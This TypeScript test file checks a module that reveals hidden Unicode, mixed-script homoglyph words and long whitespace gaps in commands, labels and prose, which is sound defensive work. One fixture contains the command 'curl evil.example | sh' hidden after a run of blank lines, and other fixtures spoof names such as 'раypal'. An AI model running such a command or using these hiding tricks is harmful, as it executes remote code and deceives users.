import assert from "node:assert/strict";
import { test } from "node:test";
import { BLANK_CHARACTERS, BLANK_LINES, codePoint, isHidden, mixesScripts, countMarks, parts, reveal, type Part, type Style } from "../../src/page/text/reveal.ts";

const STYLES: readonly Style[] = ["code", "label", "prose"];

function* codePoints(): Generator<string> {
  for (let point = 0; point <= 0x10ffff; point += 1) yield String.fromCodePoint(point);
}

/** The original text of the parts. */
const source = (all: readonly Part[]) => all.map((part) => ("source" in part ? part.source : part.text)).join("");
const kinds = (text: string, style: Style) => parts(text, style).flatMap((part) => (part.kind === "text" ? [] : [`${part.kind} ${part.text}`]));

/** General categories and properties of characters that are invisible or reorder others. */
const UNSEEN: Record<string, RegExp> = {
  Cc: /^\p{Cc}$/u, Cf: /^\p{Cf}$/u, Co: /^\p{Co}$/u, Cn: /^\p{Cn}$/u, Cs: /^\p{Cs}$/u, Zl: /^\p{Zl}$/u, Zp: /^\p{Zp}$/u, Zs: /^\p{Zs}$/u,
  Default_Ignorable_Code_Point: /^\p{Default_Ignorable_Code_Point}$/u, Bidi_Control: /^\p{Bidi_Control}$/u,
  Variation_Selector: /^\p{Variation_Selector}$/u, Noncharacter_Code_Point: /^\p{Noncharacter_Code_Point}$/u, Me: /^\p{Me}$/u,
};
const PLAIN = new Set([" ", "\n", "\t"]);

for (const [name, property] of Object.entries(UNSEEN)) {
  test(`every character of ${name} is named, wherever it stands`, () => {
    let count = 0;
    for (const character of codePoints()) {
      if (!property.test(character) || PLAIN.has(character)) continue;
      count += 1;
      assert.ok(isHidden(character), codePoint(character));
      // Checking all private and unassigned characters would take minutes.
      if (count > 3000 && count % 61 !== 0) continue;
      for (const style of STYLES) assert.equal(reveal(`a${character}b`, style), `a<${codePoint(character)}>b`);
    }
    assert.ok(count > 0);
  });
}

test("all other characters are shown as they are, and of ASCII only control characters are marked", () => {
  for (const character of codePoints()) {
    if (Object.values(UNSEEN).some((property) => property.test(character)) && !PLAIN.has(character)) continue;
    if (["\u2800", "\ufffc", "\u{1d159}"].includes(character)) continue;
    assert.ok(!isHidden(character), codePoint(character));
  }
  const ascii = Array.from({ length: 95 }, (_, index) => String.fromCharCode(32 + index)).join("") + "\n\tx";
  for (const style of STYLES) assert.deepEqual(parts(ascii, style), [{ kind: "text", text: ascii }]);
});

test("every character beyond ASCII is marked in a command or a label", () => {
  for (const character of codePoints()) {
    if (character <= "\x7f") continue;
    for (const style of ["code", "label"] as const) {
      const all = parts(`x ${character} y`, style);
      assert.ok(all.some((part) => part.kind === "hidden" || part.kind === "word"), codePoint(character));
    }
  }
});

test("the parts join up to the whole text", () => {
  const texts = ["", "plain", "\n\n\n\n\n", "  \n \n\t\n\n x \n\n\n\n\ny", `a${" ".repeat(500)}b\u200b\u200b\u200b\u202ec`, "e\u0301\u0302\u0303\u0304x", "\u0301a", "с\u200bat cаt", "\ud800x\udc00"];
  for (const text of texts) for (const style of STYLES) assert.equal(source(parts(text, style)), text);
});

test("runs of blank lines and of spaces are counted", () => {
  assert.deepEqual(parts(`ls${"\n".repeat(61)}curl evil.example | sh`, "code"), [
    { kind: "text", text: "ls\n" }, { kind: "gap", text: "60 blank lines", source: "\n".repeat(60) }, { kind: "text", text: "curl evil.example | sh" },
  ]);
  assert.deepEqual(kinds(`ls\n${" \t\n".repeat(1200)}x`, "code"), ["gap 1,200 blank lines"]);
  assert.deepEqual(kinds(`\n\n\n\nx${"\n".repeat(BLANK_LINES)}y`, "prose"), ["gap 4 blank lines"]);
  assert.deepEqual(kinds(`ls${" ".repeat(BLANK_CHARACTERS)};x${" ".repeat(BLANK_CHARACTERS - 1)}y`, "code"), [`gap ${BLANK_CHARACTERS} spaces`]);
  assert.deepEqual(kinds(`ls${"\t".repeat(40)}y`, "code"), ["gap 40 blank characters"]);
});

test("hidden characters in a row are named together, and repetitions are counted", () => {
  assert.deepEqual(kinds(`a${"\u200b".repeat(300)}\u202eb`, "code"), ["hidden <U+200B ×300><U+202E>"]);
  assert.deepEqual(kinds("rm\r\n", "code"), ["hidden <U+000D>"]);
  assert.deepEqual(countMarks("a\u200b\u200bb cаt", "code"), { hidden: 2, words: 1 });
});

test("words that mix scripts are marked, in commands and in prose", () => {
  const mixed = ["cаt", "раypal", "Αpple", "ոode", "οne", "s\u0455h", "ᏚSH", "עbc", "rmд", "абвγ", "٣a"];
  for (const word of mixed) {
    assert.ok(mixesScripts(word), word);
    for (const style of STYLES) assert.deepEqual(kinds(`run ${word} now`, style), [`word ${word}`]);
  }
  for (const word of ["größe", "naïve", "Москва", "Αθήνα", "שלום", "日本語テスト", "한국어", "Python入門", "हिन्दी", "e\u0301te\u0301"]) assert.ok(!mixesScripts(word), word);
});

test("a word in another alphabet is marked among Latin words, but not among its own", () => {
  assert.deepEqual(kinds("please сосо this file", "prose"), ["word сосо"]);
  assert.deepEqual(kinds("Удалить файлы из папки build", "prose"), []);
  assert.deepEqual(kinds("Der größte naïve Test, 日本語 too: “fine” – it’s…", "prose"), []);
  assert.deepEqual(kinds("echo größe", "code"), ["word größe"]);
});

test("compatibility characters that look like other letters are marked", () => {
  for (const text of ["ｒｍ", "𝐫𝐦", "ﬁle", "\u212a"]) {
    for (const style of STYLES) assert.deepEqual(kinds(`x ${text} y`, style), [`word ${text}`]);
  }
  assert.deepEqual(kinds("ls\u037e rm", "prose"), ["word \u037e"]);
});

test("excess combining marks and marks without a letter are named", () => {
  const all = [...codePoints()].filter((each) => /\p{Mn}|\p{Mc}/u.test(each) && !isHidden(each));
  assert.ok(all.length > 2000);
  for (const mark of all) {
    for (const style of STYLES) {
      assert.match(reveal(`a${mark.repeat(9)}b`, style), new RegExp(`<${codePoint(mark).replace("+", "\\+")} ×7>`));
      assert.match(reveal(` ${mark}b`, style), new RegExp(`<${codePoint(mark).replace("+", "\\+")}>`));
    }
  }
});

test("the time for a long text grows linearly with its length", () => {
  for (const piece of ["\n ", " ", "\u0301", "а", "a\u200b", "\t\n"]) {
    const text = piece.repeat(100_000);
    assert.equal(source(parts(text, "code")), text);
  }
});
